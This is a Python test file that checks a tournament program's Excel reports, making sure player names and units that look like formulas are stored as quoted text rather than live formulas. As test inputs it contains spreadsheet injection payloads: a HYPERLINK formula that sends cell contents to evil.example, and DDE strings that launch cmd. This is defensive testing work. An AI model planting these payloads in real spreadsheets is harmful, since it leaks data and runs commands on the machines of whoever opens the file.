"""Spreadsheet formula injection (issue 12): a name or unit that looks like a formula is
written into every .xlsx report as text, never as a live formula.

The workbooks are read back with openpyxl without computing anything (data_only=False):
a cell of data_type "f" would be a formula Excel/WPS runs when the file is opened.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from reports import EXCEL_KINDS, build_report
from tests.reports.conftest import as_final, with_mcmahon, with_medals

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我领奖")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
)
HOSTILE_UNIT = "=cmd|' /C notepad'!A1"


def _rename(node: Any, renames: dict[str, str]) -> Any:
    if isinstance(node, dict):
        return {key: _rename(value, renames) for key, value in node.items()}
    if isinstance(node, list):
        return [_rename(value, renames) for value in node]
    if isinstance(node, str):
        return renames.get(node, node)
    return node


@pytest.fixture
def hostile_go(go: dict[str, Any]) -> dict[str, Any]:
    """The finished Go final, its top seeds renamed to formulas, one unit too."""
    renames: dict[str, str] = {}
    for event in go["events"]:
        for entrant, name in zip(event["entrants"], HOSTILE_NAMES, strict=False):
            if event["kind"] == "individual":
                renames.setdefault(entrant["name"], name)
            elif event["kind"] == "pair":  # a pair is printed as its players' names
                renames.setdefault(entrant["members"][0], name)
    men = next(e for e in go["events"] if e["code"] == "MEN")
    renames[men["entrants"][0]["unit"]] = HOSTILE_UNIT
    return _rename(go, renames)


ARGS = {
    "pairings": {"event": "MEN", "round": 9},
    "index": {"event": "MEN", "round": 9},
    "grades": {},
    "standings": {"event": "MEN"},
    "crosstable": {"event": "MEN"},
    "teams": {},
    "pairs": {},
    "prizes": {},
    "medals": {},
    "mcmahon": {},
}


_CELLS = r"[A-Z]+\d+(?::[A-Z]+\d+)?"


def _own_formula(formula: str, sheets: list[str]) -> bool:
    """A total the program writes: SUM or COUNT of a range, or references added up, each
    on this sheet or on another sheet of the book by its quoted name — nothing else."""
    names = "|".join(re.escape("'" + s.replace("'", "''") + "'") for s in sheets)
    ref = rf"(?:(?:{names})!)?{_CELLS}"
    return bool(re.fullmatch(rf"=(?:(?:SUM|COUNT)\({ref}\)|{ref}(?:\+{ref})*)", formula))


@pytest.mark.parametrize("kind", EXCEL_KINDS)
def test_no_report_cell_is_a_formula_made_from_user_text(tmp_path: Path, hostile_go, kind) -> None:
    if kind == "mcmahon":
        with_mcmahon(hostile_go)
    if kind == "medals":
        with_medals(hostile_go)
    out = build_report(as_final(hostile_go), kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
    texts: set[str] = set()
    book = load_workbook(out)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # only the program's own totals (issues 14, 26)
                    assert _own_formula(str(cell.value), book.sheetnames), (
                        kind,
                        ws.title,
                        cell.coordinate,
                        cell.value,
                    )
                    continue
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value[:1] in "=+-@" and len(cell.value) > 1:
                        # Kept as text even when someone edits the cell in Excel/WPS.
                        assert cell.quotePrefix, (kind, cell.coordinate, cell.value)
    hostile = set(HOSTILE_NAMES) | {HOSTILE_UNIT}
    if kind in ("pairings", "index", "standings", "crosstable", "pairs", "prizes", "mcmahon"):
        # The names are printed exactly as registered, as text.
        assert any(name in text for name in hostile for text in texts), (kind, sorted(texts)[:20])
        assert any(text[:1] in "=+-@" for text in texts)


def test_a_formula_name_from_the_registration_sheet_is_text_in_the_reports(tmp_path: Path) -> None:
    """End to end: the name arrives in a CSV, is imported, paired, and printed to Excel."""
    from app.services.read_model import build_export
    from app.services.registration import import_sheet
    from app.services.rounds import pair_next
    from app.services.tournament import create_tournament

    link = '=HYPERLINK("http://evil.example/?"&A1,"张三")'
    sheet = tmp_path / "报名表.csv"
    sheet.write_text(
        "姓名,性别,出生日期,单位,项目\n"
        f'"{link.replace(chr(34), chr(34) * 2)}",男,1990-01-01,@SUM(A1:A2),公开组\n'
        "李四,男,1990-01-02,杭州棋院,公开组\n",
        encoding="utf-8",
    )
    db = create_tournament(tmp_path / "g.finals", "shaoxing-gomoku-2022")
    try:
        import_sheet(db, sheet)
        pair_next(db, "OPEN")
        doc = build_export(db)
    finally:
        db.close()
    for kind, args in (
        ("pairings", {"event": "OPEN", "round": 1}),
        ("standings", {"event": "OPEN"}),
        ("crosstable", {"event": "OPEN"}),
    ):
        out = build_report(as_final(doc), kind, tmp_path / f"{kind}.xlsx", **args)
        cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
        assert link in [c.value for c in cells], kind
        assert "@SUM(A1:A2)" in [c.value for c in cells], kind


HOSTILE_UNITS = (
    '=HYPERLINK("http://evil.example/","点我")',
    "=1+2棋院",
    "+86棋院",
    "-1+1",
    "@SUM(A1:A2)",
)


@pytest.fixture
def hostile_units_go(go: dict[str, Any]) -> dict[str, Any]:
    """The finished Go final with every unit a formula (prize winners paid more than once
    included: the summary's table of them is written after the sheets), and names too."""
    renames: dict[str, str] = {}
    units = sorted({e.get("unit") for ev in go["events"] for e in ev["entrants"] if e.get("unit")})
    for index, unit in enumerate(units):
        renames[unit] = HOSTILE_UNITS[index % len(HOSTILE_UNITS)]
    for index, name in enumerate(sorted({p["name"] for p in go["prizes"]})[:40]):
        renames[name] = f"{HOSTILE_UNITS[index % len(HOSTILE_UNITS)][:1]}{name}"
    return _rename(go, renames)


@pytest.mark.parametrize("kind", EXCEL_KINDS)
def test_every_cell_of_every_workbook_passes_the_one_guard(
    tmp_path: Path, hostile_units_go, kind
) -> None:
    """No cell is a formula unless the program wrote it as one: also the cells written after
    a sheet was laid out (the prize summary's 同时获得多项奖金者, notes, signature lines)."""
    if kind == "mcmahon":
        with_mcmahon(hostile_units_go)
    if kind == "medals":
        with_medals(hostile_units_go)
    out = build_report(as_final(hostile_units_go), kind, tmp_path / f"{kind}.xlsx", **ARGS[kind])
    book = load_workbook(out)
    hostile_texts = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    assert _own_formula(str(value), book.sheetnames), (ws.title, cell.coordinate)
                    assert not any(h in str(value) for h in HOSTILE_UNITS), value
                    continue
                if isinstance(value, str) and value[:1] in "=+-@" and len(value) > 1:
                    hostile_texts += 1
                    assert cell.quotePrefix, (kind, ws.title, cell.coordinate, value)
    if kind == "prizes":
        summary = book["汇总"]
        texts = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
        assert "同时获得多项奖金者（奖金累计发放）" in texts
        assert any(t in HOSTILE_UNITS for t in texts), texts
    if kind in ("pairings", "index", "standings", "crosstable", "pairs", "prizes", "teams"):
        assert hostile_texts, kind
